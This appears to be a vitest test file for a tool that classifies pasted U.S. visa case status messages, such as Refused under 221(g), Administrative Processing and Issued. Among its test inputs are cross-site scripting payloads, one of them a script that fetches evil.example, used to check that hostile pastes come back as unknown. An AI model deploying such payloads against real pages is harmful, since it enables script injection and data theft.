import { describe, expect, test } from 'vitest';
import { decodeStatusText, highlightSegments, variants, type Variant } from '../../../src/lib/decoder';
import { loadStatuses, officialText } from './load-statuses';

const statuses = loadStatuses();
const t = (id: string, i = 0) => officialText(statuses, id, i);
const tail = 'For more information, please visit U.S. Consulate General Mumbai.';
const dated = (word: string, body: string) => `${word}\nCase Created: 04-Jan-2021\nCase Last Updated: 15-Mar-2021\n${body}\n${tail}`;
/** Breaks a text into short lines with stray spaces, as phones and PDFs copy it. */
const broken = (text: string) => text.split(' ').reduce((acc, w, i) => acc + (i % 5 === 4 ? '\n  ' : ' ') + w);

const table: [string, string, Variant][] = [
  ['long Refused text, exactly', t('refused-221g'), 'refused-221g'],
  ['long Refused text with status word, dates and consulate tail', dated('Refused', t('refused-221g')), 'refused-221g'],
  ['long Refused text in upper case', t('refused-221g').toUpperCase(), 'refused-221g'],
  ['long Refused text broken over lines', broken(t('refused-221g')), 'refused-221g'],
  ['long Refused text without "U.S."', t('refused-221g').replace('A U.S. consular', 'A consular'), 'refused-221g'],
  ['long Refused fragment', 'your case will remain refused while undergoing such processing', 'refused-221g'],
  ['long Refused fragment with typos', 'You will recieve another adjudciation once such procesing is complete', 'refused-221g'],
  ['long Refused text with a word split by a line break', t('refused-221g').replace('adjudicated', 'adjudi-\ncated'), 'refused-221g'],
  ['short Refused text, exactly', t('refused-letter'), 'refused-letter'],
  ['short Refused text with status word, dates and tail', dated('Refused', t('refused-letter')), 'refused-letter'],
  ['short Refused text, the wording without "U.S."', t('refused-letter', 1), 'refused-letter'],
  ['short Refused text in upper case', t('refused-letter').toUpperCase(), 'refused-letter'],
  ['short Refused fragment', 'Please see the letter you received at the interview.', 'refused-letter'],
  [
    'short Refused text with a typo',
    'A U.S. consular officer has adjudicated and refused your visa application. Please see the leter you recieved at the interview',
    'refused-letter',
  ],
  ['pre-2020 short text', t('refused-letter-old'), 'refused-letter-old'],
  ['pre-2020 short text with status word and date', dated('REFUSED', t('refused-letter-old')), 'refused-letter-old'],
  ['pre-2020 fragment with a typo', 'please refer to the leter or other instructions you were given', 'refused-letter-old'],
  ['Administrative Processing text', t('administrative-processing'), 'administrative-processing'],
  [
    'Administrative Processing with status word, dates and tail',
    dated('Administrative Processing', t('administrative-processing')),
    'administrative-processing',
  ],
  [
    'Administrative Processing fragment',
    'currently undergoing necessary administrative processing. This processing can take',
    'administrative-processing',
  ],
  ['Application Received text with status word', dated('Application Received', t('application-received')), 'application-received'],
  ['Application Received fragment with typos', 'your case is opne and ready for your intervew, fingerprints', 'application-received'],
  ['Issued text with tail', `${t('issued')}\n${tail}`, 'issued'],
  ['Issued fragment in upper case', 'YOUR VISA IS IN FINAL PROCESSING.', 'issued'],
  ['No Status text with status word', dated('No Status', t('no-status')), 'no-status'],
  ['IV Ready text', dated('Ready', t('ready')), 'ready'],
  ['IV In Transit text', t('in-transit'), 'in-transit'],
  ['IV In Transit fragment, broken', broken('currently being transferred to the Immigrant Visa Unit at the Embassy'), 'in-transit'],
  ['IV At NVC, status word only', 'At NVC\nCase Last Updated: 02-Feb-2021', 'at-nvc'],
  ['IV Transfer in Progress, status word only', 'Status: Transfer in Progress', 'transfer-in-progress'],
  ['Issued, status word only', 'Issued', 'issued'],
  ['Refused, status word only', 'Refused\nCase Last Updated: 15-Mar-2021', 'unknown'],
  [
    'first sentence shared by long and short texts',
    'A U.S. consular officer has adjudicated and refused your visa application.',
    'unknown',
  ],
  ['text that merely says refused', 'My visa was refused under 214(b) at the window and they gave me a letter.', 'unknown'],
  ['the word refused, many times', 'refused Refused REFUSED refused. refused, refused!', 'unknown'],
  ['an unrelated paragraph', 'The quick brown fox jumps over the lazy dog. Visa appointments in Chennai are full.', 'unknown'],
  ['hostile markup', '<img src=x onerror="alert(document.title)">', 'unknown'],
  ['hostile script', '<script>document.title="pwned"; fetch("https://evil.example/?q="+1)</script>', 'unknown'],
  ['whitespace only', '  \n\t ', 'unknown'],
];

describe('decodeStatusText', () => {
  test('the table holds every official wording of every decodable status, and at least 25 pastes', () => {
    const wordings = statuses.filter((s) => variants.includes(s.id as Variant)).flatMap((s) => s.texts.map((x) => x.text));
    expect(wordings.length).toBeGreaterThanOrEqual(10);
    for (const w of wordings) expect(table.some(([, paste]) => paste.includes(w))).toBe(true);
    expect(table.length).toBeGreaterThanOrEqual(25);
  });

  test.each(table.map(([name, paste, expected]) => ({ name, paste, expected })))('$name → $expected', ({ paste, expected }) => {
    expect(decodeStatusText(paste, statuses).variant).toBe(expected);
  });

  test('a full official text matches with high confidence and says when the wording was seen', () => {
    const r = decodeStatusText(dated('Refused', t('refused-221g')), statuses);
    expect(r).toMatchObject({
      variant: 'refused-221g',
      confidence: 'high',
      reason: 'text',
      statusId: 'refused-221g',
      textIndex: 0,
      label: 'Refused',
    });
    expect(r.seen).toMatch(/2020/);
    expect(r.coverage).toBeGreaterThan(0.95);
  });

  test('the older short wording is told apart from the newer one by its own words', () => {
    expect(decodeStatusText(t('refused-letter', 1), statuses)).toMatchObject({ statusId: 'refused-letter', textIndex: 1 });
  });

  test('a fragment matches with medium confidence', () => {
    expect(decodeStatusText('your case will remain refused while undergoing such processing', statuses).confidence).toBe('medium');
  });

  test('matched phrases point at the paste and at the official wording', () => {
    const paste = `Refused\n\n${broken(t('refused-221g'))}\n${tail}`;
    const r = decodeStatusText(paste, statuses);
    expect(r.phrases.length).toBeGreaterThan(0);
    for (const p of r.phrases) {
      expect(paste.slice(p.start, p.end)).toBe(p.text);
      const official = t('refused-221g').slice(p.officialStart, p.officialEnd);
      expect(official.toLowerCase().replace(/\s+/g, ' ')).toBe(p.text.toLowerCase().replace(/\s+/g, ' '));
    }
    expect(r.phrases.map((p) => p.text).join(' ')).not.toContain('Mumbai');
  });

  test('a shared first sentence is not guessed: both Refused texts are offered', () => {
    const r = decodeStatusText('A U.S. consular officer has adjudicated and refused your visa application.', statuses);
    expect(r).toMatchObject({ variant: 'unknown', reason: 'ambiguous' });
    expect(r.candidates.sort()).toEqual(['refused-221g', 'refused-letter']);
  });

  test('the status word Refused alone asks for the text under it', () => {
    const r = decodeStatusText('Refused', statuses);
    expect(r).toMatchObject({ variant: 'unknown', reason: 'label-ambiguous', label: 'Refused' });
    expect(r.candidates).toEqual(expect.arrayContaining(['refused-221g', 'refused-letter', 'refused-letter-old']));
  });

  test('a status the decoder has no variant for is named but stays unknown', () => {
    expect(decodeStatusText('Approved', statuses)).toMatchObject({ variant: 'unknown', reason: 'not-decoded', statusId: 'approved' });
  });

  test('the status word in a sentence is not a status line', () => {
    expect(decodeStatusText('I think my visa will be issued soon', statuses).variant).toBe('unknown');
  });

  test('hostile input is unknown and nothing of it comes back as a phrase', () => {
    const r = decodeStatusText('<img src=x onerror=alert(1)><script>alert("refused")</script>', statuses);
    expect(r).toMatchObject({ variant: 'unknown', reason: 'no-match', phrases: [] });
  });

  test('non-string input is treated as empty', () => {
    expect(decodeStatusText(undefined as unknown as string, statuses).reason).toBe('empty');
  });

  test('reads only the first 20,000 characters of a huge paste and says so', () => {
    const r = decodeStatusText(`${t('issued')} ${'x'.repeat(30_000)}`, statuses);
    expect(r).toMatchObject({ variant: 'issued', truncated: true });
  });
});

// Timing claims (under 5 ms for 5 KB) are measured by `npm run bench` (tests/bench/decoder-speed.test.ts),
// not here: a wall-clock limit fails on a loaded machine. These check what the page does with such pastes.
describe('large pastes', () => {
  const filler =
    'Nonimmigrant Visa Application Status Check. Application ID or Case Number. Passport Number. Surname. Submit. Close. Print. ';
  const fiveKb = (body: string) => {
    let s = `${filler.repeat(12)}\nRefused\nCase Last Updated: 15-Mar-2021\n${body}\n${tail}\n`;
    while (s.length < 5 * 1024) s += 'Lorem ipsum dolor sitamet consectetur adipiscing elitr sedd doeiusmod temporr incididunt. ';
    return s.slice(0, 5 * 1024);
  };

  test('a 5 KB paste with page text around the status text is still classified by that text', () => {
    const paste = fiveKb(t('refused-221g'));
    expect(paste.length).toBe(5120);
    expect(decodeStatusText(paste, statuses).variant).toBe('refused-221g');
    expect(decodeStatusText(fiveKb(t('refused-letter')), statuses).variant).toBe('refused-letter');
  });

  test('5 KB of words it has never seen is unknown, not a guess', () => {
    const letters = 'etaoinshrdlucmfwypvbgkjqxz';
    let text = '';
    for (let i = 1; text.length < 5120; i++) {
      let w = '';
      for (let n = i; w.length < 4 + (i % 9); n = Math.floor(n / 3) + i * 7) w += letters[n % 26];
      text += `${w} `;
    }
    expect(decodeStatusText(text, statuses).variant).toBe('unknown');
  });
});

describe('highlightSegments', () => {
  test('splits text into marked and plain pieces that join back to the text', () => {
    const segs = highlightSegments('abcdefghij', [
      { start: 6, end: 8 },
      { start: 1, end: 3 },
      { start: 2, end: 4 },
    ]);
    expect(segs).toEqual([
      { text: 'a', marked: false },
      { text: 'bcd', marked: true },
      { text: 'ef', marked: false },
      { text: 'gh', marked: true },
      { text: 'ij', marked: false },
    ]);
    expect(segs.map((s) => s.text).join('')).toBe('abcdefghij');
  });

  test('joins highlights that only whitespace separates', () => {
    expect(
      highlightSegments('you were informed by the officer', [
        { start: 0, end: 17 },
        { start: 18, end: 32 },
      ]),
    ).toEqual([{ text: 'you were informed by the officer', marked: true }]);
    expect(
      highlightSegments('ab, cd', [
        { start: 0, end: 2 },
        { start: 4, end: 6 },
      ]),
    ).toEqual([
      { text: 'ab', marked: true },
      { text: ', ', marked: false },
      { text: 'cd', marked: true },
    ]);
  });

  test('ignores ranges outside the text', () => {
    expect(
      highlightSegments('abc', [
        { start: -5, end: 1 },
        { start: 2, end: 99 },
        { start: 9, end: 12 },
      ]),
    ).toEqual([
      { text: 'a', marked: true },
      { text: 'b', marked: false },
      { text: 'c', marked: true },
    ]);
  });
});
